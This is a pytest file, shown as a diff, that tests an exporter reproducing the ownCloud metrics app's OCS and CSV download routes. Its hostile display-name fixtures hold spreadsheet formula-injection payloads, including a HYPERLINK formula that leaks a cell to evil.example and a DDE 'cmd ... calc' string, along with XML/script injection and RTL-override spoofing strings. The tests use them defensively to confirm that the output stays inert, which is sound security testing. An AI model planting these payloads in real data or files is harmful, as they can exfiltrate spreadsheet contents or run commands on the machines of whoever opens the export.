@@ -1,0 +1,422 @@
+"""The ownCloud metrics app's routes over a real socket, on the ownCloud 10 test database with
+hostile display names: the OCS answer (JSON and XML, v1 and v2) and both CSV downloads equal the
+app's own definitions (tests/platforms/owncloud_reference.py) field by field, on SQLite,
+PostgreSQL and MariaDB; the app's README curl calls work unchanged; errors look like the app's;
+hostile names stay well-formed and inert in every format."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import subprocess
+import urllib.error
+import urllib.request
+import xml.etree.ElementTree as ET
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from sqlalchemy import create_engine
+
+from exporter import api
+from exporter.api.csvout import safe_cell, stream_csv
+from exporter.http import App, Context, HttpServer
+from exporter.runner import Runner
+from tests.conftest import API_KEY, NEXTCLOUD_DB, make_config, sqlite_execute
+from tests.platforms.owncloud_db import OWNCLOUD_NOW, build_owncloud_db
+from tests.platforms.owncloud_reference import (
+    SYSTEM_CSV_HEADER,
+    USERS_CSV_HEADER,
+    system_csv_row,
+    system_metrics,
+    user_data,
+    users_csv_rows,
+)
+
+CAPACITY = 2 * 1024**4  # object storage capacity: free = capacity - used, as the app computes it
+OCS = "/ocs/v{}.php/apps/metrics/api/v1/metrics"
+USERS_CSV = "/index.php/apps/metrics/download-api/users"
+SYSTEM_CSV = "/index.php/apps/metrics/download-api/system"
+KEY = {"OC-MetricsApiKey": API_KEY}
+FORBIDDEN = ("You do not have sufficient permissions to access this endpoint. Please consult the "
+             "System Administrator for access.")
+ALL_FLAGS = "users=true&files=true&shares=true&quota=true&userData=true"
+# Display names a hostile or careless user can set, on accounts with a home storage.
+HOSTILE = {
+    "alice": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "bob": "+SUM(1,2)",
+    "carol": "-2+3",
+    "dave": "@SUM(A1:A2)",
+    "erin": "\tcmd|' /C calc'!A0",
+    "frank": "\rCR first",
+    "grace": 'Line one\nLine "two", with a comma\r\nLine three',
+    "heidi": "\u202etxt.exe\u202c \u200fמשה כהן\u200f",
+    "ivan": "</displayName><injected>x</injected><![CDATA[ ]]> & </script>",
+    "judy": ('Ünïcödé, "quoted"; 山本 \U0001f600 ' * 400)[:10240],
+    "m.schmidt": "ctrl\x01\x02\x0b\x1f bell\x07 \ufffe end",
+    "mallory": None,
+}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def fetch(url: str, headers: dict[str, str] | None = None) -> tuple[int, Any, bytes]:
+    request = urllib.request.Request(url, headers=headers or {})
+    try:
+        with urllib.request.urlopen(request, timeout=30) as response:
+            return response.status, response.headers, response.read()
+    except urllib.error.HTTPError as error:
+        return error.code, error.headers, error.read()
+
+
+def hostile_db(path: Path) -> Path:
+    build_owncloud_db(str(path))
+    sqlite_execute(path, *(
+        "UPDATE oc_accounts SET display_name = {} WHERE user_id = '{}'".format(
+            "NULL" if name is None else "'" + name.replace("'", "''") + "'", uid)
+        for uid, name in HOSTILE.items()))
+    return path
+
+
+def serve(runner: Runner) -> Iterator[str]:
+    context = Context(lambda: runner.snapshot, runner.config.api_keys, runner.history,
+                      runner.clock)
+    server = HttpServer(App(context, api.routes(context)), "127.0.0.1", 0).start()
+    try:
+        yield f"http://127.0.0.1:{server.port}"
+    finally:
+        server.stop()
+
+
+def owncloud_runner(url: str) -> Runner:
+    config = make_config(url, "owncloud", database={"available_storage_bytes": CAPACITY})
+    runner = Runner(config, clock=lambda: OWNCLOUD_NOW)
+    assert runner.run_all().failures == {}
+    return runner
+
+
+def reference(url: str, **flags: bool) -> dict[str, Any]:
+    """What the app answers with every flag on, and the CSV rows, read by the app's own SQL."""
+    engine = create_engine(url)
+    try:
+        with engine.connect() as conn:
+            return {
+                "data": {**system_metrics(conn, OWNCLOUD_NOW, 0, available_storage=CAPACITY),
+                         "userData": user_data(conn, 0, available_storage=CAPACITY, **flags)},
+                "users_csv": users_csv_rows(conn, 0, available_storage=CAPACITY),
+                "system_csv": system_csv_row(conn, OWNCLOUD_NOW, 0, available_storage=CAPACITY),
+            }
+    finally:
+        engine.dispose()
+
+
+def reference_user_data(url: str, **flags: bool) -> dict[str, Any]:
+    engine = create_engine(url)
+    try:
+        with engine.connect() as conn:
+            return user_data(conn, 0, available_storage=CAPACITY, **flags)
+    finally:
+        engine.dispose()
+
+
+@pytest.fixture(scope="module")
+def db_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return hostile_db(tmp_path_factory.mktemp("owncloud_api") / "owncloud.db")
+
+
+@pytest.fixture(scope="module")
+def base_url(db_path: Path) -> Iterator[str]:
+    runner = owncloud_runner(f"sqlite:///{db_path}")
+    yield from serve(runner)
+    runner.close()
+
+
+@pytest.fixture(scope="module")
+def expected(db_path: Path) -> dict[str, Any]:
+    return reference(f"sqlite:///{db_path}")
+
+
+def ocs_json(base_url: str, query: str, version: int = 1) -> tuple[int, Any, dict[str, Any]]:
+    status, headers, body = fetch(f"{base_url}{OCS.format(version)}?{query}", KEY)
+    return status, headers, json.loads(body)
+
+
+def meta(version: int, ok: bool = True, message: str = "OK") -> dict[str, Any]:
+    codes = {(1, True): 100, (1, False): 996, (2, True): 200, (2, False): 500}
+    return {"status": "ok" if ok else "failure", "statuscode": codes[version, ok],
+            "message": message, "totalitems": "", "itemsperpage": ""}
+
+
+# --- the OCS route ---
+
+
+@pytest.mark.parametrize("version", [1, 2])
+def test_json_with_every_flag_equals_the_app_field_by_field(base_url, expected, version):
+    status, headers, body = ocs_json(base_url, f"{ALL_FLAGS}&format=json", version)
+    assert status == 200
+    assert headers["Content-Type"] == "application/json; charset=utf-8"
+    assert body["ocs"]["meta"] == meta(version)
+    data = body["ocs"]["data"]
+    assert data == expected["data"]
+    assert list(data) == ["timeStamp", "users", "files", "shares", "userData"]
+    assert len(data["userData"]) > 20
+
+
+@pytest.mark.parametrize(("query", "present"), [
+    ("", set()),
+    ("users=true", {"users"}),
+    ("files=true&shares=true", {"files", "shares"}),
+    # Only the exact string 'true' turns a flag on; the last value of a parameter counts.
+    ("users=TRUE&files=1&shares=yes&userData=true&userData=false", set()),
+])
+def test_each_flag_adds_its_section(base_url, expected, query, present):
+    _, _, body = ocs_json(base_url, query + "&format=json")
+    data = body["ocs"]["data"]
+    assert data == {"timeStamp": OWNCLOUD_NOW} | {key: expected["data"][key] for key in present}
+
+
+@pytest.mark.parametrize("flags", [
+    {},
+    {"files": True},
+    {"shares": True, "quota": True},
+    {"users": True, "files": True, "shares": True, "quota": True},
+])
+def test_user_data_carries_the_sections_the_flags_ask_for(base_url, db_path, flags):
+    query = "&".join(f"{name}=true" for name in flags) + "&userData=true&format=json"
+    _, _, body = ocs_json(base_url, query.lstrip("&"))
+    only = {name: flags.get(name, False) for name in ("files", "shares", "quota", "users")}
+    assert body["ocs"]["data"]["userData"] == reference_user_data(f"sqlite:///{db_path}", **only)
+
+
+def xml_value(element: ET.Element) -> Any:
+    """An OCS XML element back as the structure it was written from: children by name (or by
+    the key attribute of <element>), leaves as text."""
+    if len(element):
+        return {child.get("key", child.tag): xml_value(child) for child in element}
+    return element.text or ""
+
+
+def as_xml_text(value: Any) -> Any:
+    """What XML can carry of a value: text, with characters XML 1.0 forbids as U+FFFD."""
+    if isinstance(value, dict):
+        return {key: as_xml_text(item) for key, item in value.items()}
+    allowed = re.compile("[\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
+    text = "" if value is None else str(value)
+    return "".join(c if allowed.fullmatch(c) else "\ufffd" for c in text)
+
+
+@pytest.mark.parametrize("version", [1, 2])
+def test_xml_is_the_default_and_equals_the_app_field_by_field(base_url, expected, version):
+    status, headers, body = fetch(f"{base_url}{OCS.format(version)}?{ALL_FLAGS}", KEY)
+    assert status == 200
+    assert headers["Content-Type"] == "application/xml; charset=utf-8"
+    assert body.startswith(b'<?xml version="1.0"?>\n<ocs>\n <meta>\n  <status>ok</status>\n')
+    root = ET.fromstring(body)
+    assert root.tag == "ocs"
+    assert xml_value(root) == {"meta": as_xml_text(meta(version)),
+                               "data": as_xml_text(expected["data"])}
+    user_data = root.find("data/userData")
+    # User ids that are XML names name their element; others (with '@') are kept in an attribute.
+    assert user_data.find("alice") is not None
+    assert user_data.find("element[@key='anna.meyer@partner-firm.example']") is not None
+
+
+def test_errors_are_the_apps_ocs_failure_envelope(base_url):
+    wrong = {"OC-MetricsApiKey": "not-the-key"}
+    status, _, body = fetch(f"{base_url}{OCS.format(1)}?{ALL_FLAGS}&format=json", wrong)
+    assert status == 200  # OCS v1 reports failures in the body only
+    assert json.loads(body) == {"ocs": {"meta": meta(1, False, FORBIDDEN), "data": []}}
+    status, _, body = fetch(f"{base_url}{OCS.format(2)}?format=json")
+    assert status == 500
+    assert json.loads(body) == {"ocs": {"meta": meta(2, False, FORBIDDEN), "data": []}}
+    status, headers, body = fetch(f"{base_url}{OCS.format(1)}")
+    assert (status, headers["Content-Type"]) == (200, "application/xml; charset=utf-8")
+    assert body.decode() == (
+        '<?xml version="1.0"?>\n<ocs>\n <meta>\n  <status>failure</status>\n'
+        f"  <statuscode>996</statuscode>\n  <message>{FORBIDDEN}</message>\n"
+        "  <totalitems></totalitems>\n  <itemsperpage></itemsperpage>\n </meta>\n <data/>\n"
+        "</ocs>\n")
+    # Without a format parameter core takes the first Accept item naming a responder.
+    for accept, content_type in (("application/json", "application/json; charset=utf-8"),
+                                 ("text/html, application/xml", "application/xml; charset=utf-8"),
+                                 ("application/json;q=0.9", "application/xml; charset=utf-8")):
+        status, headers, _ = fetch(base_url + OCS.format(1), {**KEY, "Accept": accept})
+        assert (status, headers["Content-Type"]) == (200, content_type), accept
+    # A format core has no responder for ends PHP with an empty 500, key or no key.
+    for fmt in ("csv", "JSON", ""):
+        status, _, body = fetch(f"{base_url}{OCS.format(1)}?format={fmt}", KEY)
+        assert (status, body) == (500, b""), fmt
+
+
+# --- the CSV downloads ---
+
+
+def csv_rows(body: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(body.decode(), newline="")))
+
+
+def csv_text(value: Any) -> str:
+    """A value as the CSV shows it: text that a spreadsheet would run as a formula starts with
+    a single quote; numbers as they are."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return "" if value is None else str(value)
+
+
+def test_users_csv_equals_the_app_field_by_field(base_url, expected):
+    status, headers, body = fetch(base_url + USERS_CSV, KEY)
+    assert status == 200
+    assert headers["Content-Type"] == "text/csv"
+    assert headers["Content-Disposition"] == \
+        'attachment; filename="DataMetrics-11/23/26, 9:04:43 AM-users.csv"'
+    header, *rows = csv_rows(body)
+    assert tuple(header) == USERS_CSV_HEADER
+    ours = {row[0]: row for row in rows}
+    assert len(ours) == len(rows) == len(expected["users_csv"])
+    for want in expected["users_csv"]:
+        assert ours[want["userId"]] == [csv_text(want[c]) for c in USERS_CSV_HEADER], \
+            want["userId"]
+    # The app's per-user guest shares are share_type 4 rows: r.garcia owns two of them.
+    assert ours["r.garcia"][USERS_CSV_HEADER.index("sharesGuest")] == "2"
+
+
+def test_system_csv_equals_the_app(base_url, expected):
+    status, headers, body = fetch(base_url + SYSTEM_CSV, KEY)
+    assert status == 200
+    assert headers["Content-Disposition"] == \
+        'attachment; filename="DataMetrics-11/23/26, 9:04:43 AM-system.csv"'
+    assert body.decode() == ",".join(SYSTEM_CSV_HEADER) + "\n" + \
+        ",".join(str(v) for v in expected["system_csv"].values()) + "\n"
+
+
+def test_the_deprecated_download_route_is_the_users_csv(base_url):
+    assert fetch(base_url + "/index.php/apps/metrics/download-api", KEY)[2] == \
+        fetch(base_url + USERS_CSV, KEY)[2]
+
+
+def test_a_wrong_key_on_a_download_is_the_apps_error_page(base_url):
+    for headers in ({}, {"OC-MetricsApiKey": "wrong"}):
+        status, response_headers, body = fetch(base_url + USERS_CSV, headers)
+        assert status == 500
+        assert response_headers["Content-Type"] == "text/html; charset=UTF-8"
+        assert b"<h2>Internal Server Error</h2>" in body
+        assert b"userId" not in body
+
+
+def test_downloads_before_the_collectors_ran_fail_as_the_app_does(db_path):
+    runner = Runner(make_config(f"sqlite:///{db_path}", "owncloud"),
+                    clock=lambda: OWNCLOUD_NOW)
+    for base_url in serve(runner):
+        status, headers, body = fetch(base_url + SYSTEM_CSV, KEY)
+        assert (status, json.loads(body)) == (500, ["Could not get csv data."])
+        assert headers["Content-Type"] == "application/json; charset=utf-8"
+        _, _, answer = ocs_json(base_url, "users=true&format=json")
+        assert answer["ocs"]["meta"] == meta(1, False, "The sessions collector has not "
+                                                       "produced data yet.")
+        # The time stamp alone needs no collector.
+        assert ocs_json(base_url, "format=json")[2]["ocs"]["data"] == {"timeStamp": OWNCLOUD_NOW}
+    runner.close()
+
+
+def test_the_routes_are_served_for_owncloud_only():
+    runner = Runner(make_config(f"sqlite:///{NEXTCLOUD_DB}", "nextcloud"))
+    for base_url in serve(runner):
+        status, _, body = fetch(f"{base_url}{OCS.format(1)}?format=json", KEY)
+        assert status == 404 and json.loads(body)["code"] == 404.1
+    runner.close()
+
+
+# --- a client written for the app, unchanged ---
+
+
+def curl(*args: str, stdout: Any = subprocess.PIPE) -> bytes:
+    done = subprocess.run(["curl", *args], stdout=stdout, stderr=subprocess.PIPE, timeout=60,
+                          check=True)
+    return done.stdout
+
+
+def test_the_readme_curl_calls_of_the_metrics_app_work_unchanged(base_url, expected, tmp_path):
+    """The calls of the ownCloud metrics app's README, with only host and key filled in."""
+    body = curl(f"{base_url}/ocs/v1.php/apps/metrics/api/v1/metrics?users=true&files=true"
+                "&shares=true&quota=true&userData=true&format=json",
+                "-H", f"OC-MetricsApiKey: {API_KEY}")
+    assert json.loads(body)["ocs"]["data"] == expected["data"]
+    for kind in ("users", "system"):
+        target = tmp_path / f"{kind}-metrics.csv"
+        with target.open("wb") as out:
+            curl("-H", "Content-Type: application/csv", "-H", f"OC-MetricsApiKey: {API_KEY}",
+                 "-X", "GET", f"{base_url}/index.php/apps/metrics/download-api/{kind}",
+                 stdout=out)
+        header = csv_rows(target.read_bytes())[0]
+        assert tuple(header) == (USERS_CSV_HEADER if kind == "users" else SYSTEM_CSV_HEADER)
+    rows = csv_rows((tmp_path / "users-metrics.csv").read_bytes())[1:]
+    assert {row[0] for row in rows} == {row["userId"] for row in expected["users_csv"]}
+
+
+# --- hostile display names ---
+
+
+def test_hostile_names_stay_well_formed_and_inert(base_url):
+    _, _, raw_json = fetch(f"{base_url}{OCS.format(1)}?userData=true&format=json", KEY)
+    assert b"<" not in raw_json and b">" not in raw_json  # no markup for a browser to sniff
+    user_data = json.loads(raw_json)["ocs"]["data"]["userData"]
+    assert {uid: user_data[uid]["displayName"] for uid in HOSTILE} == HOSTILE
+
+    _, _, raw_xml = fetch(f"{base_url}{OCS.format(1)}?userData=true", KEY)
+    root = ET.fromstring(raw_xml)
+    assert root.find(".//injected") is None
+    names = {uid: root.find(f"data/userData/{uid.replace('.', '_')}") if False else
+             root.find(f"data/userData/{uid}") for uid in HOSTILE}
+    assert {uid: element.findtext("displayName") or "" for uid, element in names.items()} == \
+        {uid: as_xml_text(name) for uid, name in HOSTILE.items()}
+
+    _, _, raw_csv = fetch(base_url + USERS_CSV, KEY)
+    rows = {row[0]: row for row in csv_rows(raw_csv)[1:]}
+    assert {uid: rows[uid][1] for uid in HOSTILE} == \
+        {uid: csv_text(name) for uid, name in HOSTILE.items()}
+    for row in rows.values():
+        for cell in row:
+            # Only numbers (negative free quota) may start like a formula.
+            assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-\d+", cell), cell
+
+
+def test_csv_output_streams_in_chunks_and_round_trips_any_text():
+    taken: list[int] = []
+
+    def rows() -> Iterator[list[Any]]:
+        for n in range(20_000):
+            taken.append(n)
+            yield [n, HOSTILE["grace"], -n, None, 1.5, "=1+1"]
+
+    chunks = stream_csv(["n", "text", "negative", "none", "float", "formula"], rows())
+    first = next(chunks)
+    assert len(taken) < 20_000  # rows are read as chunks go out, not all up front
+    body = first + b"".join(chunks)
+    parsed = csv_rows(body)
+    assert parsed[0] == ["n", "text", "negative", "none", "float", "formula"]
+    assert parsed[1:] == [[str(n), HOSTILE["grace"], str(-n), "", "1.5", "'=1+1"]
+                          for n in range(20_000)]
+    assert [safe_cell(v) for v in (None, -3, "-3", "@x", "a=b", "\rx")] == \
+        ["", "-3", "'-3", "'@x", "a=b", "'\rx"]
+
+
+# --- other databases ---
+
+
+@pytest.fixture(scope="module", params=["postgresql", "mariadb"])
+def server_url(request: pytest.FixtureRequest, db_path: Path,
+               server_database: Callable[[str, str, Path], str]) -> str:
+    return server_database(request.param, "owncloud_api", db_path)
+
+
+def test_json_on_postgresql_and_mariadb_equals_the_app(server_url):
+    runner = owncloud_runner(server_url)
+    expected = reference(server_url)
+    for base_url in serve(runner):
+        _, _, body = ocs_json(base_url, f"{ALL_FLAGS}&format=json")
+        assert body["ocs"]["data"] == expected["data"]
+        assert {uid: body["ocs"]["data"]["userData"][uid]["displayName"] for uid in HOSTILE} \
+            == HOSTILE
+    runner.close()
